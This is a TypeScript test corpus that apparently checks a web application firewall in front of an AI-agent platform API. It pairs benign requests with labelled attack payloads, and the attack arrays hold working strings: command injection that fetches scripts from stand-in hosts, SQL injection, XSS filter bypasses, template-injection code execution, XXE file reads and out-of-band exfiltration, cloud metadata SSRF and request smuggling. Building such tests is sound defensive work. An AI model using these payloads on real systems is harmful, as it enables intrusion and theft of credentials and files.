  { category: 'prompt', name: 'markdown table with pipes', why: 'Markdown tables in prompts', method: 'POST', path: '/api/runs', headers: bearer, json: prompt('Fill in the table:\n\n| Region | Q1 | Q2 |\n|---|---|---|\n| EMEA | 1.2M | ? |\n| APAC | 0.9M | ? |') },
  { category: 'prompt', name: 'curl example with bearer header', why: 'API docs questions contain curl commands', method: 'POST', path: '/api/runs', headers: bearer, json: prompt('Why does this return 401?\n\n```bash\ncurl -s -H "Authorization: Bearer $TOKEN" -H "Content-Type: application/json" https://api.factory.example.com/api/agents\n```') },
  { category: 'prompt', name: 'delete rows question with a WHERE', why: 'Asking how to delete data is ordinary', method: 'POST', path: '/api/runs', headers: bearer, json: prompt('How do I delete from a Postgres table only the rows older than a year, without locking the whole table?') },
  { category: 'prompt', name: 'numbers, percentages and inequalities', why: 'Business prose with symbols', method: 'POST', path: '/api/runs', headers: bearer, json: prompt('Revenue grew 12% YoY; 3/4 of users chose plan B; flag any region where -5 < delta < 5 or churn >= 2.5%.') },
  { category: 'prompt', name: 'chat messages array (system/user/assistant)', why: 'Agent platforms take a conversation history', method: 'POST', path: '/api/chat/completions', headers: bearer, json: { model: 'factory-large', temperature: 0.3, messages: [{ role: 'system', content: "You are a helpful analyst. Don't make things up." }, { role: 'user', content: "What's the difference between DELETE and TRUNCATE?" }, { role: 'assistant', content: 'DELETE removes rows one by one and can have a WHERE; TRUNCATE empties the table.' }, { role: 'user', content: 'And DROP?' }] } },
  { category: 'prompt', name: 'tool definitions with JSON schema', why: 'Function-calling schemas with patterns and enums', method: 'POST', path: '/api/agents', headers: bearer, json: { name: 'weather-bot', tools: [{ type: 'function', function: { name: 'get_weather', description: 'Get the weather for a city', parameters: { type: 'object', properties: { city: { type: 'string', pattern: '^[A-Za-zÀ-ÿ .\'-]+$' }, unit: { type: 'string', enum: ['c', 'f'] } }, required: ['city'] } } }] } },
  { category: 'prompt', name: 'emoji and mixed scripts', why: 'Chat content with emoji, RTL and CJK', method: 'POST', path: '/api/runs', headers: bearer, json: prompt('Resume en 3 puntos 🚀: 日本語のメモ, עברית, and the 🇧🇷 team’s “launch” notes — ¡gracias! 🙏') },
  { category: 'prompt', name: 'YAML manifest in a prompt', why: 'DevOps agents review Kubernetes YAML', method: 'POST', path: '/api/runs', headers: bearer, json: prompt('Review this Deployment:\n\n```yaml\napiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: web\nspec:\n  replicas: 2\n  template:\n    spec:\n      containers:\n        - name: web\n          image: nginx:1.27\n          ports:\n            - containerPort: 80\n```') },
  { category: 'prompt', name: 'XML sample without a DTD', why: 'Data questions with XML', method: 'POST', path: '/api/runs', headers: bearer, json: prompt('Convert to JSON: <order id="1042"><item sku="A-1" qty="2">Book</item><item sku="B-7" qty="1">Pen</item></order>') },
  { category: 'prompt', name: 'prose about XSS prevention', why: 'Security questions without payloads', method: 'POST', path: '/api/runs', headers: bearer, json: prompt('What is the difference between textContent and innerHTML when it comes to preventing cross-site scripting? Do I still need a Content-Security-Policy?') },
  { category: 'prompt', name: 'French prose with apostrophes', why: "Elisions like l'équipe and d'accord", method: 'POST', path: '/api/runs', headers: bearer, json: prompt("Peux-tu résumer l'échange d'hier ? L'équipe n'était pas d'accord sur l'union des deux bases ; sélectionne les points clés.") },
  { category: 'prompt', name: 'long prompt with a pasted log', why: 'Users paste stack traces and logs', method: 'POST', path: '/api/runs', headers: bearer, json: prompt('Why does my job crash?\n\n' + '2026-02-01T10:15:03.120Z ERROR worker-3 Task failed: TimeoutError: operation timed out after 30000ms\n    at Worker.run (/app/dist/worker.js:118:13)\n    at process.processTicksAndRejections (node:internal/process/task_queues:95:5)\n'.repeat(5)) },
  // Ordinary API traffic
  { category: 'write', name: 'base64 attachment in JSON', why: 'Small files travel base64-encoded in JSON', method: 'POST', path: '/api/runs/run_8f3a/attachments', headers: bearer, json: { name: 'notes.txt', mime: 'text/plain', data: Buffer.from('Meeting notes: ship v2 on Friday; Ana owns QA.\n'.repeat(8)).toString('base64') } },
  { category: 'write', name: 'embedding vector', why: 'Float arrays for vector search', method: 'POST', path: '/api/vectors/upsert', headers: bearer, json: { id: 'doc-17', values: Array.from({ length: 64 }, (_, i) => Math.round(Math.sin(i) * 1e6) / 1e6), metadata: { source: 'wiki', lang: 'en' } } },
  { category: 'write', name: 'GraphQL query', why: 'GraphQL bodies with braces and arguments', method: 'POST', path: '/api/graphql', headers: bearer, json: { query: 'query Agents($first: Int!) { agents(first: $first, orderBy: {field: CREATED_AT, direction: DESC}) { edges { node { id name status } } } }', variables: { first: 10 } } },
  { category: 'write', name: 'GraphQL mutation deleteAgent', why: 'Mutation names contain delete/update', method: 'POST', path: '/api/graphql', headers: bearer, json: { query: 'mutation { deleteAgent(id: "agt_01J9Z3") { id deletedAt } }' } },
  { category: 'write', name: 'webhook with a redirect URL in its query', why: 'URLs inside URLs', method: 'POST', path: '/api/webhooks', headers: bearer, json: { url: 'https://hooks.example.com/in/abc?redirect_uri=https%3A%2F%2Fapp.example.com%2Fdone&state=xyz', secret_ref: 'vault:webhooks/abc' } },
  { category: 'write', name: 'schedule with ISO dates and cron', why: 'Cron expressions with * and /', method: 'PUT', path: '/api/agents/agt_01J9Z3/schedule', headers: bearer, json: { cron: '*/15 9-17 * * 1-5', timezone: 'America/Sao_Paulo', starts_at: '2026-03-01T09:00:00-03:00', ends_at: null } },
  { category: 'write', name: 'JSON patch add to an array', why: 'RFC 6902 add with the - index', method: 'PATCH', path: '/api/agents/agt_01J9Z3', headers: { ...bearer, 'Content-Type': 'application/json-patch+json' }, body: JSON.stringify([{ op: 'add', path: '/tags/-', value: 'finance' }, { op: 'replace', path: '/prompt', value: "Select the cheapest supplier and drop the ones that can't deliver by Friday." }, { op: 'test', path: '/version', value: 3 }]) },
  { category: 'write', name: 'merge patch with null', why: 'RFC 7396 removal with null', method: 'PATCH', path: '/api/users/me', headers: { ...bearer, 'Content-Type': 'application/merge-patch+json' }, body: JSON.stringify({ nickname: null, locale: 'pt-BR', timezone: 'Europe/Berlin' }) },
  { category: 'write', name: 'JSON:API document', why: 'vnd.api+json clients', method: 'POST', path: '/api/projects', headers: { ...bearer, 'Content-Type': 'application/vnd.api+json' }, body: JSON.stringify({ data: { type: 'projects', attributes: { name: 'Müller & Söhne – Q3', budget: 12000.5 } } }) },
  { category: 'write', name: 'form login with a symbol-rich password', why: 'Passwords contain quotes, ampersands and hashes', method: 'POST', path: '/api/auth/login', headers: form, body: 'email=jose%40example.es&password=Tr0ub4dor%263%23x%27Q!' },
  { category: 'write', name: 'multipart text fields with markdown', why: 'Forms with long text and symbols', method: 'POST', path: '/api/files', headers: bearer, form: { fields: { title: 'Release notes', notes: '- fixed: *drop-down* no longer closes\n- changed: select "All" && export now works\n- 100% of tests pass' }, files: [{ field: 'file', filename: 'notes.csv', contentType: 'text/csv', content: 'item,status\nA,done\n' }] } },
  { category: 'write', name: 'memory entry with an apostrophe in the query', why: 'DELETE with a query containing a quote', method: 'DELETE', path: "/api/agents/agt_01J9Z3/memory?key=user's%20name", headers: bearer },
  { category: 'write', name: 'bulk DELETE by ids', why: 'Comma-separated ids with a flag', method: 'DELETE', path: '/api/runs?ids=run_1,run_2,run_3&force=true', headers: bearer },
  { category: 'write', name: 'DELETE a file with spaces', why: 'Encoded spaces in a path', method: 'DELETE', path: '/api/files/my%20report%20(final).pdf', headers: bearer },
  { category: 'write', name: 'PUT with a plain text body', why: 'Raw text content', method: 'PUT', path: '/api/notes/n_12/content', headers: { ...bearer, 'Content-Type': 'text/plain; charset=utf-8' }, body: "Todo: select a venue; don't forget Zoë's allergy list; union hall is booked until 5 pm." },
  // Uploads
  { category: 'upload', name: 'CSV with formulas', why: 'Spreadsheets exported with =SUM and =ROUND', method: 'POST', path: '/api/files', headers: bearer, form: up('finance-2026.csv', 'text/csv', CSV_FORMULAS) },
  { category: 'upload', name: 'PDF with a Japanese name', why: 'Unicode file names', method: 'POST', path: '/api/files', headers: bearer, form: up('報告書_2026年.pdf', 'application/pdf', samplePdf()) },
  { category: 'upload', name: 'CSV with an Arabic name', why: 'Right-to-left file names', method: 'POST', path: '/api/files', headers: bearer, form: up('تقرير المبيعات.csv', 'text/csv', 'المنطقة,المبيعات\nالرياض,1200\n') },
  { category: 'upload', name: 'CSV with umlauts and parentheses', why: 'Names like "Übersicht (final).csv"', method: 'POST', path: '/api/files', headers: bearer, form: up('Übersicht (final) v2.csv', 'text/csv', 'name;betrag\nMüller;12,50\n', { description: "Übersicht für's Team" }) },
  { category: 'upload', name: 'JSON file upload', why: 'Exported agent definitions', method: 'POST', path: '/api/agents/import', headers: bearer, form: up('agent-export.json', 'application/json', JSON.stringify({ name: 'helper', prompt: 'Select the best answer.' })) },
  { category: 'upload', name: 'markdown file upload', why: 'Knowledge-base documents', method: 'POST', path: '/api/knowledge/docs', headers: bearer, form: up('README.md', 'text/markdown', '# Setup\n\nRun `npm install && npm test`.\n\n```sql\nSELECT 1;\n```\n') },
  { category: 'upload', name: 'JPEG photo', why: 'Binary image upload', method: 'POST', path: '/api/users/me/avatar', headers: bearer, form: up('foto-perfil.jpg', 'image/jpeg', Buffer.concat([Buffer.from('ffd8ffe000104a46494600010100000100010000', 'hex'), Buffer.alloc(256, 0x7f), Buffer.from('ffd9', 'hex')])) },
  { category: 'upload', name: 'XLSX (zip) upload', why: 'Office documents are zip archives', method: 'POST', path: '/api/files', headers: bearer, form: up('Q3 forecast.xlsx', 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet', Buffer.concat([Buffer.from('504b0304140006000800', 'hex'), Buffer.from('[Content_Types].xml'), Buffer.alloc(128, 0x11)])) },
  // Reads
  { category: 'read', name: 'search how to delete from an array', why: 'Search text with SQL-looking phrase', path: '/api/search?q=how%20to%20delete%20from%20an%20array%20in%20javascript', headers: bearer },
  { category: 'read', name: 'search C++ vs C#', why: 'Plus and hash characters encoded', path: '/api/search?q=C%2B%2B%20vs%20C%23', headers: bearer },
  { category: 'read', name: 'array parameters', why: 'tag[]=a&tag[]=b as Rails/PHP clients send them', path: '/api/agents?tag%5B%5D=finance&tag%5B%5D=ops', headers: bearer },
  { category: 'read', name: 'OAuth callback', why: 'code and state from an identity provider', path: '/api/auth/callback?code=4%2F0AfJohXk-9Lq_ZzY&state=eyJyIjoiL2Rhc2hib2FyZCJ9&scope=openid%20email%20profile', headers: { 'User-Agent': 'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15' } },
  { category: 'read', name: 'search with an accented apostrophe name', why: "Names like d'Oréé in a search", path: '/api/search?q=caf%C3%A9%20d%27Or%C3%A9', headers: bearer },
  { category: 'read', name: 'browser with cookies and referer', why: 'Dashboard traffic with analytics cookies', path: '/dashboard/agents/agt_01J9Z3', headers: { 'User-Agent': 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36', Cookie: '_ga=GA1.2.1234567890.1700000000; session=s%3AeyJ1aWQiOjQyfQ.abc; theme=dark; lang=de-DE', Referer: 'https://app.factory.example.com/dashboard?tab=agents&sort=-updated', 'Accept-Language': 'de-DE,de;q=0.9,en;q=0.8' } },
  { category: 'read', name: 'OpenAI-style SDK user agent', why: 'Official SDKs identify themselves', path: '/api/models', headers: { ...bearer, 'User-Agent': 'OpenAI/Python 1.40.0', 'X-Stainless-Lang': 'python' } },
  { category: 'read', name: 'axios client', why: 'Browser and Node apps use axios', path: '/api/agents/agt_01J9Z3/runs?limit=20&cursor=eyJpZCI6MTAwfQ%3D%3D', headers: { ...bearer, 'User-Agent': 'axios/1.7.2' } },
  { category: 'read', name: 'Go client', why: 'Go services call the API', path: '/api/health', headers: { 'User-Agent': 'Go-http-client/2.0' } },
  { category: 'read', name: 'okhttp mobile client', why: 'Android app', path: '/api/me', headers: { ...bearer, 'User-Agent': 'okhttp/4.12.0' } },
  { category: 'read', name: 'Postman', why: 'Developers try the API in Postman', path: '/api/agents', headers: { ...bearer, 'User-Agent': 'PostmanRuntime/7.39.0', 'Postman-Token': '5c1d3f0e-8a4b-4c2d-9e7f-1a2b3c4d5e6f' } },
  { category: 'read', name: 'export with a date range and timezone', why: 'ISO dates with offsets', path: '/api/runs/export?format=csv&from=2026-01-01T00%3A00%3A00%2B09%3A00&tz=Asia%2FTokyo', headers: bearer },
  { category: 'read', name: 'If-Modified-Since and compression', why: 'Caching and encoding headers', path: '/api/agents/agt_01J9Z3', headers: { ...bearer, 'If-Modified-Since': 'Wed, 21 Oct 2026 07:28:00 GMT', 'Accept-Encoding': 'gzip, deflate, br, zstd' } },
];

/**
 * Hold-out round 2 (a third, independent hardening round): cases from a corpus written before reading the
 * rule table, kept here where they found a class the rules missed or refused, plus neighbours of each class.
 * Names start with "holdout-2:".
 */
const HOLDOUT_2_ATTACKS: CorpusEntry[] = [
  { category: 'lfi-rfi', name: 'holdout-2: ftp:// remote include', why: 'RFI through an ftp URL; CRS 931120 only fires on a trailing "?"', path: '/api/v1/page?template=ftp%3A%2F%2Fevil.example%2Fpayload.txt' },
  { category: 'lfi-rfi', name: 'holdout-2: ftp:// with credentials in JSON', why: 'Import-from-URL field pointing at an ftp-hosted shell', method: 'POST', path: '/api/v1/files/import', headers: bearer, json: { url: 'ftp://anonymous@evil.example/shell.php' } },
  { category: 'protocol', name: 'holdout-2: Transfer-Encoding chunked, identity', why: 'TE list obfuscation for smuggling; nginx answers 501, rendered as 400', raw: 'GET /api/v1/agents HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n' },
  { category: 'cmdi', name: 'holdout-2: backtick command after one token in JSON', why: 'A code span at the end of a value is command substitution, not quoted code', method: 'POST', path: '/api/v1/tools/run', headers: bearer, json: { host: '8.8.8.8 `whoami`' } },
  { category: 'cmdi', name: 'holdout-2: backtick after options in JSON', why: 'Command substitution inside an argument list', method: 'POST', path: '/api/v1/tools/run', headers: bearer, json: { cmd: 'ping -c 1 `id`' } },
  { category: 'cmdi', name: 'holdout-2: two backtick spans, the last one live', why: 'Only a span that prose goes on after is quoted code', method: 'POST', path: '/api/v1/tools/run', headers: bearer, json: { args: '`id` `whoami`' } },
  { category: 'sqli', name: 'holdout-2: IF(..., SLEEP()) in JSON', why: 'Conditional time-based blind SQLi stays refused with 942230 off for bodies', method: 'POST', path: '/api/v1/agents', headers: bearer, json: { filter: '1 AND IF(1=1,SLEEP(5),0)' } },
  { category: 'sqli', name: 'holdout-2: CASE WHEN in a JSON sort field', why: 'Boolean oracle in ORDER BY stays refused (libinjection) with 942230 off for bodies', method: 'POST', path: '/api/v1/agents', headers: bearer, json: { sort: '(CASE WHEN (1=1) THEN name ELSE id END)' } },
  { category: 'cmdi', name: 'holdout-2: PHP variable function call in a query', why: '933210 stays on outside JSON and multipart bodies', path: "/api/v1/tools/eval?code=%24_GET%5B'a'%5D(%24_GET%5B'b'%5D)%3B" },
];

const HOLDOUT_2_BENIGN: CorpusEntry[] = [
  { category: 'write', name: 'holdout-2: markdown link in a prompt', why: 'A [text](url) link read as a PHP variable function call (933210)', method: 'POST', path: '/api/v1/conversations/7c9e6679-7425-40de-944b-e07fc1f90ae7/messages', headers: bearer, json: { role: 'user', content: '# Weekly summary\n\n- **Revenue**: up 12% (≈ €45k)\n- See [dashboard](https://metrics.example.com/d/abc?from=now-7d&to=now)\n\n> Note: numbers are preliminary.' } },
  { category: 'write', name: 'holdout-2: two markdown links in agent instructions', why: 'Docs links with query strings and fragments in a PATCH', method: 'PATCH', path: '/api/v1/agents/agt_01J9Z3', headers: { ...bearer, 'Content-Type': 'application/merge-patch+json' }, body: JSON.stringify({ instructions: 'See the [README](https://github.com/acme/agent#install) and [docs](https://docs.acme.dev/v2?lang=en).' }) },
  { category: 'write', name: 'holdout-2: JavaScript condition in a prompt', why: '"if (x > 0" read as conditional SQL (942230)', method: 'POST', path: '/api/v1/conversations/7c9e6679-7425-40de-944b-e07fc1f90ae7/messages', headers: bearer, json: { role: 'user', content: 'Compare these: if (x > 0 && y < 10) { return x || y; } — is that idiomatic JS?' } },
  { category: 'write', name: 'holdout-2: prose about GROUP BY ... HAVING', why: '"having count >" read as conditional SQL (942230)', method: 'POST', path: '/api/v1/conversations/7c9e6679-7425-40de-944b-e07fc1f90ae7/messages', headers: bearer, json: { role: 'user', content: 'The function where() returns rows; call it with select(*) and then group by region, having count > 5.' } },
  { category: 'write', name: 'holdout-2: inline code span that prose goes on after', why: 'Markdown `ls -la` in a sentence is quoted code, not command substitution (1030)', method: 'POST', path: '/api/v1/conversations/7c9e6679-7425-40de-944b-e07fc1f90ae7/messages', headers: bearer, json: { role: 'user', content: "My shell prompt shows user@host:~$ and `ls -la` prints nothing; what's wrong?" } },
  { category: 'write', name: 'holdout-2: list of code spans in agent instructions', why: 'Comma-separated `cat file.txt`, `ps aux | grep node` spans', method: 'POST', path: '/api/v1/agents', headers: bearer, json: { name: 'Shell helper', instructions: 'When asked, suggest commands like `ls -la`, `cat file.txt` or `ps aux | grep node` and explain them.' } },
  { category: 'write', name: 'holdout-2: code span ending a sentence', why: 'A prompt that ends with a code span and a full stop', method: 'POST', path: '/api/v1/runs', headers: bearer, json: { agent_id: 'agt_01J9Z3', input: 'Run `ls -la`.' } },
  { category: 'write', name: 'holdout-2: code spans with grep and wc', why: 'Two shell code spans in one sentence', method: 'POST', path: '/api/v1/conversations/7c9e6679-7425-40de-944b-e07fc1f90ae7/messages', headers: bearer, json: { role: 'user', content: 'Use `grep -r TODO src/` to find leftovers, then `wc -l` to count them.' } },
  { category: 'write', name: "holdout-2: O'Connor order with select/drop prose", why: 'Apostrophe name, semicolon, select and drop in one sentence', method: 'POST', path: '/api/v1/conversations/7c9e6679-7425-40de-944b-e07fc1f90ae7/messages', headers: { ...bearer, 'User-Agent': 'okhttp/4.12.0', 'Accept-Language': 'en-IE,en;q=0.9' }, json: { role: 'user', content: "Dear Ms. O'Connor, I'd like to order 3 items; please select express shipping and drop the gift wrap." } },
  { category: 'write', name: 'holdout-2: Slack slash command form', why: 'Form body with an apostrophe user name and prose', method: 'POST', path: '/api/v1/webhooks/slack', headers: { ...form, 'X-Slack-Signature': 'v0=a2114d57b48eac39b9ad189dd8316235a7b4a8d21a10bd27519666489c69b503', 'X-Slack-Request-Timestamp': '1531420618', 'User-Agent': 'Slackbot 1.0 (+https://api.slack.com/robots)' }, body: "token=gIkuvaNzQIHg97ATvDxqgjtO&team_id=T0001&user_name=liam.o'neill&command=%2Fagent&text=summarize%20%23general%20since%20monday%2C%20and%20don't%20include%20bots" },
  { category: 'write', name: 'holdout-2: json-patch with an apostrophe value', why: 'RFC 6902 operations with paths that look like file paths', method: 'PATCH', path: '/api/v1/agents/agt_01J9Z3', headers: { ...bearer, 'Content-Type': 'application/json-patch+json' }, body: JSON.stringify([{ op: 'replace', path: '/name', value: "Zoë's agent" }, { op: 'remove', path: '/tags/0' }, { op: 'add', path: '/tools/-', value: 'web_search' }]) },
  { category: 'upload', name: 'holdout-2: CSV with formulas, semicolons and doubled quotes', why: 'Spreadsheet export quoting', method: 'POST', path: '/api/v1/files', headers: bearer, form: { fields: { purpose: 'assistants' }, files: [{ field: 'file', filename: 'contacts.csv', contentType: 'text/csv', content: 'name,email,note\n"O\'Brien, Siobhán",siobhan@example.ie,"said ""hi"""\nZoë;Müller,zoe@example.de,=SUM(A1:A3)\n"D\'Angelo",d@example.it,"1=1; drop me a line"\n' }] } },
];

/**
 * Classes a public payload matrix found missed or refused (issue 15), written from each class's structure:
 * injections in custom X- headers (an application logs, echoes or forwards them), a command whose argument is
 * a URL, and the words "JavaScript:" in a title (a colon and a space, then words: not a script URL). Names start
 * with "matrix:".
 */
const MATRIX_ATTACKS: CorpusEntry[] = [
  { category: 'cmdi', name: 'matrix: command with a URL argument', why: 'Download of a script after a separator: the argument is a URL, not an option', path: '/api/tools/ping?host=127.0.0.1%3Bwget%20http%3A%2F%2F203.0.113.9%2Fx.sh' },
  { category: 'cmdi', name: 'matrix: curl of a URL in JSON', why: 'The same shape in an API body field', method: 'POST', path: '/api/tools/run', headers: bearer, json: { host: 'localhost && curl https://203.0.113.9/stage2' } },
  { category: 'cmdi', name: 'matrix: command injection in a custom header', why: 'Tenant headers end up in shell scripts and logs', path: '/api/agents', headers: { ...bearer, 'X-Tenant-Id': 'acme;cat /etc/passwd' } },
  { category: 'sqli', name: 'matrix: SQL tautology in a custom header', why: 'Header values used in queries (tenant lookups)', path: '/api/agents', headers: { ...bearer, 'X-Tenant-Id': "acme' OR '1'='1" } },
  { category: 'sqli', name: 'matrix: UNION SELECT in a custom header', why: 'Header values used in reporting queries', path: '/api/reports', headers: { ...bearer, 'X-Report-Filter': "1 UNION SELECT username, password FROM users--" } },
  { category: 'xss', name: 'matrix: javascript: URL with a space before the call', why: 'Browsers run "javascript: alert(1)" with the space', path: '/api/redirect?to=javascript%3A%20alert(document.cookie)' },
  { category: 'xss', name: 'matrix: javascript: URL split by a tab', why: 'Browsers drop tabs and newlines inside a URL scheme', path: '/api/redirect?to=java%09script%3Aalert(1)' },
  { category: 'xss', name: 'matrix: javascript: URL split by an entity-encoded tab', why: 'The same, as an HTML entity in a link', method: 'POST', path: '/api/links', headers: bearer, json: { href: 'jav&#x09;ascript:alert(1)' } },
  { category: 'xss', name: 'matrix: javascript: URL with a comment', why: 'A comment instead of a space', path: '/api/redirect?to=javascript%3A%2F**%2Falert(1)' },
  { category: 'cmdi', name: 'matrix: Jinja arithmetic probe', why: 'SSTI discovery: {{7*7}} renders 49 where a template engine evaluates input', path: '/api/greetings?name=%7B%7B1337*1338%7D%7D' },
  { category: 'cmdi', name: 'matrix: Jinja object traversal to subclasses', why: 'SSTI exploitation through the MRO', method: 'POST', path: '/api/templates/preview', headers: bearer, json: { body: "{{ ''.__class__.__mro__[1].__subclasses__() }}" } },
  { category: 'cmdi', name: 'matrix: Jinja config.items()', why: 'SSTI leak of the Flask config', path: '/api/greetings?name=%7B%7Bconfig.items()%7D%7D' },
  { category: 'cmdi', name: 'matrix: FreeMarker Execute?new()', why: 'FreeMarker RCE through the Execute utility', method: 'POST', path: '/api/templates/preview', headers: bearer, json: { body: '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}' } },
  { category: 'cmdi', name: 'matrix: SpEL T(java.lang.Runtime)', why: 'Spring expression injection', path: '/api/search?q=%24%7BT(java.lang.Runtime).getRuntime().exec(%27id%27)%7D' },
  { category: 'cmdi', name: 'matrix: ERB arithmetic probe', why: 'Ruby template probe', path: '/api/greetings?name=%3C%25%3D%207*7%20%25%3E' },
  { category: 'xss', name: 'matrix: alert as a tagged template', why: 'No parentheses: alert`1`', path: '/api/search?q=%22%3E%3Csvg%20onload%3Dalert%601%60%3E' },
  { category: 'xss', name: 'matrix: optional-chaining call', why: 'alert?.(document?.cookie) passes filters that want alert(', path: '/api/search?q=alert%3F.(document%3F.cookie)' },
  { category: 'xss', name: 'matrix: confirm.call', why: 'A call through Function.prototype.call', method: 'POST', path: '/api/comments', headers: bearer, json: { text: 'confirm.call(null,1)' } },
  { category: 'xss', name: 'matrix: callback to alert', why: '[1].find(alert) calls alert without writing a call', path: '/api/search?q=%5B1%5D.find(alert)' },
  { category: 'xss', name: 'matrix: built property name on window', why: "window['al'+'ert'](1) hides the name", path: "/api/search?q=window%5B'al'%2B'ert'%5D(1)" },
  { category: 'xss', name: 'matrix: throw onerror=alert', why: 'Calls alert through the error handler without parentheses', path: '/api/search?q=throw%20onerror%3Dalert%2C1' },
  { category: 'cmdi', name: 'matrix: command substitution in a custom header', why: 'A device name echoed into a shell', method: 'POST', path: '/api/devices', headers: { ...bearer, 'X-Device-Name': 'laptop$(id)' }, json: { ok: true } },
];

const MATRIX_BENIGN: CorpusEntry[] = [
  { category: 'write', name: 'matrix: course title "JavaScript: Basics"', why: 'A colon and a space after "JavaScript" start words, not a script URL', method: 'POST', path: '/api/courses', headers: bearer, json: { title: 'JavaScript: Basics of JavaScript Language', level: 'beginner' } },
  { category: 'read', name: 'matrix: search for "javascript: tutorial"', why: 'The same words in a query string', path: '/api/search?q=javascript%3A%20tutorial%20for%20beginners' },
  { category: 'read', name: 'matrix: custom headers of an API client', why: 'Request ids, versions and tenant names are ordinary X- headers', path: '/api/agents', headers: { ...bearer, 'X-Request-Id': '3f2b8c1e-9a4d-4e7b-b1c2-5d6e7f809a1b', 'X-Api-Version': '2024-05-01', 'X-Tenant-Id': 'acme-europe', 'X-Client-Name': "O'Reilly Media; analytics" } },
  { category: 'prompt', name: 'matrix: Handlebars template in a prompt', why: 'Users paste templates with names inside delimiters', method: 'POST', path: '/api/runs', headers: bearer, json: { prompt: 'Fill this email template: Hello {{ user.first_name }}, your order {{order.id}} of ${total} ships on #{date}.' } },
  { category: 'prompt', name: 'matrix: Jinja loop in a prompt', why: 'Template code with control blocks', method: 'POST', path: '/api/runs', headers: bearer, json: { prompt: 'Why does {% for item in items %}{{ item.name | upper }}{% endfor %} print nothing when items is a generator?' } },
  { category: 'prompt', name: 'matrix: Python class with __init__', why: 'Dunder methods are ordinary Python', method: 'POST', path: '/api/runs', headers: bearer, json: { prompt: 'class Agent:\n    def __init__(self, name):\n        self.name = name\n    def __repr__(self):\n        return f"{self.__class__.__name__}({self.name})"' } },
  { category: 'prompt', name: 'matrix: JavaScript map and confirm in prose', why: 'Array callbacks and the word confirm', method: 'POST', path: '/api/runs', headers: bearer, json: { prompt: 'Use items.map(toRow) then ask the user to confirm the import; should confirm() be replaced by a modal?' } },
  { category: 'write', name: 'matrix: arithmetic in prose', why: 'Numbers and operators outside template delimiters', method: 'POST', path: '/api/notes', headers: bearer, json: { body: 'Budget: 3*4 = 12 seats, {7 rows} and ${20} per seat.' } },
  { category: 'write', name: 'matrix: prompt naming wget and a URL', why: 'Prose about downloading a file', method: 'POST', path: '/api/runs', headers: bearer, json: { prompt: 'How do I use wget https://example.com/file.tar.gz to resume a download?' } },
];

/**
 * XML external entities, written from how an XML parser is made to resolve what it should not: a general or
 * parameter entity with an external identifier, an external DTD, an internal subset that expands (billion
 * laughs), XInclude, and the UTF-7 disguise; in an XML body and wherever an XML document can ride (JSON
 * field, query, multipart field). The benign side: XML the API and its users really send.
 */
const XML = (s: string) => ({ ...bearer, 'Content-Type': s });
const XXE_ATTACKS: CorpusEntry[] = [
  { category: 'xxe', name: 'external entity reading a local file (XML body)', why: 'The classic XXE: SYSTEM "file:///…" expanded into the document', method: 'POST', path: '/api/imports', headers: XML('application/xml'), body: '<?xml version="1.0"?>\n<!DOCTYPE order [\n  <!ENTITY secret SYSTEM "file:///var/run/secrets/kubernetes.io/serviceaccount/token">\n]>\n<order><note>&secret;</note></order>' },
  { category: 'xxe', name: 'parameter entity fetching a remote DTD (out of band)', why: 'Blind XXE: a parameter entity loads an attacker DTD that exfiltrates by URL', method: 'POST', path: '/api/imports', headers: XML('text/xml'), body: '<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE data [<!ENTITY % remote SYSTEM "http://198.51.100.23/x.dtd"> %remote; %send;]><data>1</data>' },
  { category: 'xxe', name: 'external DTD in a SOAP envelope', why: 'A DOCTYPE with a SYSTEM identifier makes the parser fetch it (SSRF)', method: 'POST', path: '/api/soap', headers: XML('application/soap+xml'), body: '<?xml version="1.0"?><!DOCTYPE Envelope SYSTEM "http://169.254.169.254/latest/meta-data/"><Envelope><Body/></Envelope>' },
  { category: 'xxe', name: 'entity expansion bomb (billion laughs)', why: 'Nested internal entities exhaust the parser memory', method: 'POST', path: '/api/imports', headers: XML('application/xml'), body: '<?xml version="1.0"?><!DOCTYPE b [<!ENTITY a "aaaaaaaaaa"><!ENTITY b2 "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY b3 "&b2;&b2;&b2;&b2;&b2;&b2;&b2;&b2;&b2;&b2;">]><b>&b3;</b>' },
  { category: 'xxe', name: 'XInclude of a local file', why: 'XInclude reads files where the DOCTYPE is not under the attacker\'s control', method: 'POST', path: '/api/imports', headers: XML('application/xml'), body: '<doc xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/hostname"/></doc>' },
  { category: 'xxe', name: 'UTF-7 encoded DOCTYPE', why: 'A UTF-7 document hides "<!" from filters that read bytes', method: 'POST', path: '/api/imports', headers: XML('text/xml'), body: '<?xml version="1.0" encoding="UTF-7"?>\n+ADwAIQ-DOCTYPE a +AFsAPAAh-ENTITY b SYSTEM +ACI-file:///etc/shadow+ACIAPgBd-+AD4-\n+ADw-a+AD4AJg-b+ADsAPA-/a+AD4-' },
  { category: 'xxe', name: 'XXE document in a JSON field', why: 'An XML document passed as a JSON string to a converter', method: 'POST', path: '/api/convert', headers: bearer, json: { format: 'xml', document: '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>' } },
  { category: 'xxe', name: 'XXE in a query parameter', why: 'An XML document in a URL parameter', path: '/api/convert?xml=%3C!DOCTYPE%20r%20%5B%3C!ENTITY%20x%20SYSTEM%20%22http%3A%2F%2F10.0.0.1%2F%22%3E%5D%3E%3Cr%3E%26x%3B%3C%2Fr%3E' },
  { category: 'xxe', name: 'PUBLIC identifier pointing at an attacker DTD', why: 'PUBLIC with a non-W3C identifier still fetches its system URL', method: 'POST', path: '/api/files', headers: bearer, form: { fields: { manifest: '<!DOCTYPE m PUBLIC "-//ACME//x" "https://attacker.example/m.dtd"><m/>' } } },
];

const XXE_BENIGN: CorpusEntry[] = [
